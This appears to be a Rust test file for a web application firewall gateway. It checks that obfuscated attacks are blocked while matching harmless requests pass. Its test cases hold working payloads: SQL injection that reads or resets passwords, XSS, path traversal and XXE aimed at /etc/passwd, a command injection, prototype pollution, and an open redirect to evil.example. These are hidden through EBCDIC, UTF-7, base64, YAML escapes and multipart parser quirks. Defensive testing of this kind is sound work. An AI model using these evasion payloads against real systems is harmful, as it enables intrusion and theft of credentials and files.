    let send = |cookie_lines: &[&str]| {
        let mut req = "GET /profile HTTP/1.1\r\nHost: app\r\nConnection: close\r\n".to_string();
        for line in cookie_lines {
            req.push_str(&format!("Cookie: {line}\r\n"));
        }
        req.push_str("\r\n");
        raw_request(gw.addr(), req.as_bytes(), std::time::Duration::from_secs(5))
    };
    let attacks: [&[&str]; 5] = [
        &[r#"id="\047 U\116ION \123ELECT password \106ROM users--""#],
        &[r#"q="\074img src=x \157nerr\157r=\141lert(1)\076""#],
        &[r#"f=".\056/.\056/.\056/.\056/\145tc/passwd""#],
        &[r#"sid=abc; id="1';UPDATE users SET password='x' WHERE name='admin'--""#],
        &[
            r#"id="1';UPDATE users SET password='x"#,
            r#"z=1' WHERE name='admin'--""#,
        ],
    ];
    for lines in attacks {
        let resp = send(lines);
        assert!(resp.starts_with("HTTP/1.1 403"), "{lines:?}: {resp}");
        assert!(
            resp.contains("application/problem+json"),
            "{lines:?}: {resp}"
        );
    }
    assert_eq!(be.count(), 0, "an attack reached the backend");

    let harmless: [&[&str]; 3] = [
        &[r#"sid=abc; consent="yes"; theme=dark"#],
        &[r#"prefs="a;b;c"; note="say \"hi\"""#],
        &["sid=abc", "theme=dark"],
    ];
    for lines in harmless {
        let resp = send(lines);
        assert!(resp.starts_with("HTTP/1.1 200"), "{lines:?}: {resp}");
    }
    assert_eq!(be.count(), 3);
    let last = be.last();
    let cookie_lines: Vec<&String> = last
        .headers
        .iter()
        .filter(|(k, _)| k.eq_ignore_ascii_case("cookie"))
        .map(|(_, v)| v)
        .collect();
    assert_eq!(cookie_lines, ["sid=abc; theme=dark"]);
}

/// Code page 037 for the characters the XML test documents use.
fn ebcdic(text: &str) -> Vec<u8> {
    text.chars()
        .map(|c| match c {
            'a'..='i' => 0x81 + (c as u8 - b'a'),
            'j'..='r' => 0x91 + (c as u8 - b'j'),
            's'..='z' => 0xA2 + (c as u8 - b's'),
            'A'..='I' => 0xC1 + (c as u8 - b'A'),
            'J'..='R' => 0xD1 + (c as u8 - b'J'),
            'S'..='Z' => 0xE2 + (c as u8 - b'S'),
            '0'..='9' => 0xF0 + (c as u8 - b'0'),
            ' ' => 0x40,
            '.' => 0x4B,
            '<' => 0x4C,
            '(' => 0x4D,
            '+' => 0x4E,
            '&' => 0x50,
            '!' => 0x5A,
            ';' => 0x5E,
            '-' => 0x60,
            '/' => 0x61,
            ',' => 0x6B,
            '%' => 0x6C,
            '_' => 0x6D,
            '>' => 0x6E,
            '?' => 0x6F,
            ':' => 0x7A,
            '#' => 0x7B,
            '@' => 0x7C,
            '\'' => 0x7D,
            '=' => 0x7E,
            '"' => 0x7F,
            '[' => 0xBA,
            ']' => 0xBB,
            '\n' => 0x25,
            other => panic!("{other:?} is not in the test's code page 037 table"),
        })
        .collect()
}

/// Body encodings that backends decode and a WAF reading UTF-8 text would not: EBCDIC and UTF-7
/// XML (the JDK's parser and libxml2), Content-Transfer-Encoding with parameters (Django) or
/// after an LF CRLF head (Python's email package), RFC 2231 file names (Werkzeug), YAML escapes
/// (PyYAML) and PHP's escaped serialized strings.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn body_encodings_that_backends_decode_do_not_hide_attacks() {
    let be = Backend::start("app");
    let gw = TestGateway::start(&config(be.addr, "  rules: [builtin]\n", ""));
    let send = |content_type: &str, body: &[u8]| post_raw(&gw, "", content_type, body);
    let part = |head: &str, content: &str| {
        format!("--XB\r\nContent-Disposition: form-data; name=\"q\"{head}\r\n\r\n{content}\r\n--XB--\r\n")
    };
    let mp = "multipart/form-data; boundary=XB";
    // (what, content type, attack body, harmless body)
    let cases: Vec<(&str, &str, Vec<u8>, Vec<u8>)> = vec![
        (
            "XXE in EBCDIC XML",
            "application/xml",
            ebcdic("<?xml version=\"1.0\" encoding=\"IBM037\"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r><q>&x;</q></r>"),
            b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><r><q>hello</q></r>".to_vec(),
        ),
        (
            "UTF-7 XML",
            "application/xml",
            b"<?xml version=\"1.0\" encoding=\"UTF-7\"?><r><q>+ACcAIABVAE4ASQBPAE4AIABTAEUATABFAEMAVA-</q></r>".to_vec(),
            b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><r><q>hello</q></r>".to_vec(),
        ),
        (
            "base64 part with a parameter after the coding",
            mp,
            part("\r\nContent-Transfer-Encoding: base64; x=y", "JyBVTklP!TiBTRUxFQ1QgcGFzc3dvcmQgRlJPTSB1c2Vycy0t").into_bytes(),
            part("", "a plain note").into_bytes(),
        ),
        (
            "base64 part whose head ends with LF CRLF",
            mp,
            b"--XB\r\nContent-Disposition: form-data; name=\"q\"\r\nContent-Transfer-Encoding: base64\n\r\nJyBVTklPTiBTRUxFQ1QgcGFzc3dvcmQgRlJPTSB1c2Vycy0t\r\n--XB--\r\n".to_vec(),
            part("\r\nContent-Type: text/plain", "a plain note").into_bytes(),
        ),
        (
            "RFC 2231 file name continuation",
            mp,
            "--XB\r\nContent-Disposition: form-data; name=\"f\"; filename*0=\"../../../../etc/passwd\"\r\n\r\nxx\r\n--XB--\r\n".as_bytes().to_vec(),
            "--XB\r\nContent-Disposition: form-data; name=\"f\"; filename=\"report.pdf\"\r\n\r\nxx\r\n--XB--\r\n".as_bytes().to_vec(),
        ),
        (
            "YAML eight-digit escapes",
            "application/x-yaml",
            br#"q: "\U00000027\U00000020\U00000055NION \U00000053ELECT password FROM users--""#.to_vec(),
            b"q: \"a plain note\"".to_vec(),
        ),
        (
            "YAML line continuations",
            "application/x-yaml",
            b"q: \"' UNI\\\n  ON SEL\\\n  ECT password FROM users--\"".to_vec(),
            b"q: \"a plain \\\n  note\"".to_vec(),
        ),
        (
            "JSON5 escapes of any character, sent as JSON",
            "application/json",
            br"{q: '\' \UNION \SELECT password FROM users--'}".to_vec(),
            br"{q: 'a plain note', n: 1,}".to_vec(),
        ),
        (
            "PHP escaped serialized string",
            "application/x-www-form-urlencoded",
            br#"data=a%3A1%3A%7Bs%3A1%3A%22q%22%3BS%3A36%3A%22%5C27%20%5C55NION%20%5C53ELECT%20password%20FROM%20users--%22%3B%7D"#.to_vec(),
            br#"data=a%3A1%3A%7Bs%3A1%3A%22q%22%3Bs%3A5%3A%22hello%22%3B%7D"#.to_vec(),
        ),
    ];
    for (what, ct, attack, harmless) in &cases {
        twin_served_attack_refused(&be, what, || send(ct, harmless), || send(ct, attack));
    }
}

/// Node's parsers read some requests differently from the other backends' parsers (found with
/// Express, multer, koa-body and fastify behind the gateway); every reading is inspected.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn node_readings_of_bodies_and_cookies_do_not_hide_attacks() {
    let be = Backend::start("app");
    let gw = TestGateway::start(&config(be.addr, "  rules: [builtin]\n", ""));
    let send =
        |extra: &str, content_type: &str, body: &[u8]| post_raw(&gw, extra, content_type, body);
    let mp = "multipart/form-data; boundary=XB";
    let form = "application/x-www-form-urlencoded";
    let json = "application/json";
    let sqli = "1' UNION SELECT password FROM users WHERE '1'='1";
    let filename_twice = |content: &str| {
        format!("--XB\r\nContent-Disposition: form-data; name=\"q\"; filename=\"\"; filename=\"a.txt\"\r\n\r\n{content}\r\n--XB--\r\n").into_bytes()
    };
    let lf_delimiter = |content: &str| {
        format!("--XB\r\nContent-Disposition: form-data; name=\"host\"\r\n\r\n127.0.0.1\n--XB\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\n{content}\r\n--XB--\r\n").into_bytes()
    };
    let quoted_boundary = |user: &str| {
        format!(
            "--X\\B\r\nContent-Disposition: form-data; name=\"user\"\r\n\r\n{user}\r\n--X\\B--\r\n"
        )
        .into_bytes()
    };
    // (what, extra header lines, content type, attack body, harmless body)
    type Case<'a> = (&'a str, &'a str, &'a str, Vec<u8>, Vec<u8>);
    let cases: Vec<Case> = vec![
        (
            "multipart filename=\"\" then a file name (busboy keeps the first)",
            "",
            mp,
            filename_twice(sqli),
            filename_twice("a plain note"),
        ),
        (
            "multipart delimiter after a bare LF (busboy reads on)",
            "",
            mp,
            lf_delimiter(";cat /etc/passwd"),
            lf_delimiter("a plain note"),
        ),
        (
            "multipart boundary with a quoted-pair",
            "",
            "multipart/form-data; boundary=\"X\\\\B\"",
            quoted_boundary("admin'--"),
            quoted_boundary("alice"),
        ),
        (
            "JSON with a lone surrogate",
            "",
            json,
            br#"{"z":"\ud800","constructor":{"prototype":{"isAdmin":true}}}"#.to_vec(),
            br#"{"z":"\ud800","name":"alice"}"#.to_vec(),
        ),
        (
            "JSON with a number past a double's range",
            "",
            json,
            br#"{"n":1e999,"q":"1'\tUNION\tSELECT\tpassword\tFROM\tusers--"}"#.to_vec(),
            br#"{"n":1e999,"q":"a plain note"}"#.to_vec(),
        ),
        (
            "JSON with Python's NaN",
            "",
            json,
            br#"{"n":NaN,"user":"admin'--","pass":"x"}"#.to_vec(),
            br#"{"n":NaN,"user":"alice","pass":"x"}"#.to_vec(),
        ),
        (
            "JSON after a UTF-8 byte order mark",
            "",
            json,
            b"\xEF\xBB\xBF{\"user\":\"admin'--\",\"pass\":\"x\"}".to_vec(),
            b"\xEF\xBB\xBF{\"user\":\"alice\",\"pass\":\"x\"}".to_vec(),
        ),
        (
            "qs reading of a name split at ]= (prototype pollution)",
            "",
            form,
            b"[constructor]a=[prototype][isAdmin]=1".to_vec(),
            b"[profile]a=[name]=alice".to_vec(),
        ),
        (
            "qs reading of a value split at ]= (open redirect)",
            "",
            form,
            b"[next]a=b]=/%5Cevil.example".to_vec(),
            b"[next]a=b]=/home".to_vec(),
        ),
        (
            "JSON in a form value, handed to JSON.parse",
            "",
            form,
            br#"filter={"where":{"name":"1'\tUNION\tSELECT\tpassword\tFROM\tusers--"}}"#.to_vec(),
            br#"filter={"where":{"name":"alice"},"limit":10}"#.to_vec(),
        ),
        (
            "cookie-parser JSON cookie with escaped escapes",
            "Cookie: q=j:\"%5Cu0027 %5Cu0055NION %5Cu0053ELECT password FROM users--\"\r\n",
            form,
            b"a=1".to_vec(),
            b"a=1".to_vec(),
        ),
        (
            "cookie-parser JSON cookie holding a NoSQL operator",
            "Cookie: sid=j:{\"%5Cu0024ne\":null}\r\n",
            form,
            b"a=1".to_vec(),
            b"a=1".to_vec(),
        ),
        (
            "quoted cookie value, unquoted by Node's cookie module",
            "Cookie: user=\"admin' #\"\r\n",
            form,
            b"a=1".to_vec(),
            b"a=1".to_vec(),
        ),
    ];
    let harmless_cookie = |extra: &str| match extra.split_once('=') {
        Some((name, _)) if !extra.is_empty() => {
            let quoted = extra.contains("=\"");
            let value = if extra.contains("j:") {
                "j:{\"theme\":\"dark\"}"
            } else if quoted {
                "\"alice\""
            } else {
                "alice"
            };
            format!("{name}={value}\r\n")
        }
        _ => String::new(),
    };
    for (what, extra, ct, attack, harmless) in &cases {
        let calm = harmless_cookie(extra);
        twin_served_attack_refused(
            &be,
            what,
            || send(&calm, ct, harmless),
            || send(extra, ct, attack),
        );
    }
}

/// Bodies as Rack (Rails, Sinatra), Go's `net/http` and Tomcat read them where other parsers
/// differ: each attack reached the application through a gateway that read the body otherwise.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ruby_go_and_java_readings_of_bodies_do_not_hide_attacks() {
    let be = Backend::start("app");
    let gw = TestGateway::start(&config(be.addr, "  rules: [builtin]\n", ""));
    let sqli = "' UNION SELECT password FROM users--";
    let part = |head: &str, content: &str| {
        format!("--B\r\n{head}\r\n\r\n{content}\r\n--B--\r\n").into_bytes()
    };
    let field = "Content-Disposition: form-data; name=\"q\"";
    // A part the gateway once took for a file; to the application it is the field `q`.
    let named_file = |extra: &str| format!("{field}; {extra}");
    // One body, two boundaries: `outer` for parsers that read the content type one way, and
    // inside its single file part, a form delimited by `inner` for those that read it another.
    let two_boundaries = |outer: &str, inner: &str, content: &str| {
        format!(
            "--{outer}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.bin\"\r\n\r\n\
             --{inner}\r\n{field}\r\n\r\n{content}\r\n--{inner}--\r\n\r\n--{outer}--\r\n"
        )
        .into_bytes()
    };
    let binary_part = |content: &str| {
        let pad = "\x01".repeat(60);
        format!(
            "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"photo.bin\"\r\nContent-Type: application/octet-stream\r\n\r\n{pad}\r\n\
             --B\r\n{field}\r\n\r\n{content}\r\n--B--\r\n"
        )
        .into_bytes()
    };
    let qp = |text: &str| {
        text.bytes()
            .map(|b| format!("={b:02X}"))
            .collect::<String>()
    };
    let pad = "\x01".repeat(60);
    // (what, content type, attack body, harmless body)
    type Case<'a> = (&'a str, String, Vec<u8>, Vec<u8>);
    let mp = |params: &str| format!("multipart/form-data; {params}");
    let cases: Vec<Case> = vec![
        (
            "quoted boundary with a backslash (Rack, Go and Tomcat keep it)",
            mp("boundary=\"a\\bc\""),
            two_boundaries("abc", "a\\bc", sqli),
            two_boundaries("abc", "a\\bc", "alice"),
        ),
        (
            "boundary after a space (Rack keeps the space)",
            mp("boundary= abc"),
            two_boundaries("abc", " abc", sqli),
            two_boundaries("abc", " abc", "alice"),
        ),
        (
            "RFC 2231 boundary (Go)",
            mp("boundary*0=B"),
            part(
                &format!("{field}\r\nContent-Transfer-Encoding: quoted-printable"),
                &qp(sqli),
            ),
            part(field, "alice"),
        ),
        (
            "space before = in filename (Rack: no file name)",
            mp("boundary=B"),
            part(&named_file("filename =\"a.txt\""), sqli),
            part(&named_file("filename =\"a.txt\""), "alice"),
        ),
        (
            "an empty filename* after filename (Go: a field)",
            mp("boundary=B"),
            part(&named_file("filename=\"a.txt\"; filename*=UTF-8''"), sqli),
            part(
                &named_file("filename=\"a.txt\"; filename*=UTF-8''"),
                "alice",
            ),
        ),
        (
            "a quote in a parameter name (Tomcat quotes only values)",
            mp("boundary=B"),
            part(&named_file("a\"b=1; c=\"; filename=\"a.txt\"; d=\""), sqli),
            part(
                &named_file("a\"b=1; c=\"; filename=\"a.txt\"; d=\""),
                "alice",
            ),
        ),
        (
            "a control character after a header name (Java's trim drops it)",
            mp("boundary=B"),
            part(
                &format!(
                    "Content-Disposition\x01: form-data; name=\"q\"\r\n{}",
                    named_file("filename=\"a.txt\"")
                ),
                sqli,
            ),
            part(
                &format!(
                    "Content-Disposition\x01: form-data; name=\"q\"\r\n{}",
                    named_file("filename=\"a.txt\"")
                ),
                "alice",
            ),
        ),
        (
            "an escaped quote outside quotes (Tomcat)",
            mp("boundary=B"),
            part(&named_file("x=\\\"; y=\"; filename=\"a.txt\""), sqli),
            part(&named_file("x=\\\"; y=\"; filename=\"a.txt\""), "alice"),
        ),
        (
            "single quotes around a file name (Jetty)",
            mp("boundary=B"),
            part(&named_file("x='; filename=\"a.txt\"; y='"), sqli),
            part(&named_file("x='; filename=\"a.txt\"; y='"), "alice"),
        ),
        (
            "a header line after a bare CR (Jetty's legacy parser)",
            mp("boundary=B"),
            part(
                &format!("{field}\rContent-Transfer-Encoding: quoted-printable"),
                &qp(sqli),
            ),
            part(field, "alice"),
        ),
        (
            "an indented Content-Transfer-Encoding (Jetty's legacy parser trims it)",
            mp("boundary=B"),
            part(
                &format!("{field}\r\n Content-Transfer-Encoding: quoted-printable"),
                &qp(sqli),
            ),
            part(field, "alice"),
        ),
        (
            "a folded Content-Transfer-Encoding (Go unfolds and decodes)",
            mp("boundary=B"),
            part(
                &format!("{field}\r\nContent-Transfer-Encoding:\r\n quoted-printable"),
                &qp(sqli),
            ),
            part(field, "alice"),
        ),
        (
            "multipart/related (Rack, Tomcat's getParts)",
            "multipart/related; boundary=B".to_string(),
            binary_part(sqli),
            binary_part("alice"),
        ),
        (
            "XML split by comments in a form field (Java's DOM, Python's ElementTree)",
            "application/x-www-form-urlencoded".to_string(),
            format!(
                "data={}",
                "<r><q>' UNI<!---->ON SEL<!---->ECT password FROM users--</q></r>"
                    .bytes()
                    .map(|b| format!("%{b:02X}"))
                    .collect::<String>()
            )
            .into_bytes(),
            b"data=%3Cr%3E%3Cq%3Ealice%3C%21----%3E%3C%2Fq%3E%3C%2Fr%3E".to_vec(),
        ),
        (
            "no Content-Type (Rack reads a form)",
            String::new(),
            format!("q={sqli}&pad={pad}").into_bytes(),
            format!("q=alice&pad={pad}").into_bytes(),
        ),
        (
            "Rails' JSON alias with a comment (Ruby's json skips it)",
            "text/x-json".to_string(),
            format!("/*{pad}*/{{\"q\": \"{sqli}\"}}").into_bytes(),
            format!("/*{pad}*/{{\"q\": \"alice\"}}").into_bytes(),
        ),
    ];
    for (what, ct, attack, harmless) in &cases {
        twin_served_attack_refused(
            &be,
            what,
            || post_raw(&gw, "", ct, harmless),
            || post_raw(&gw, "", ct, attack),
        );
    }
}
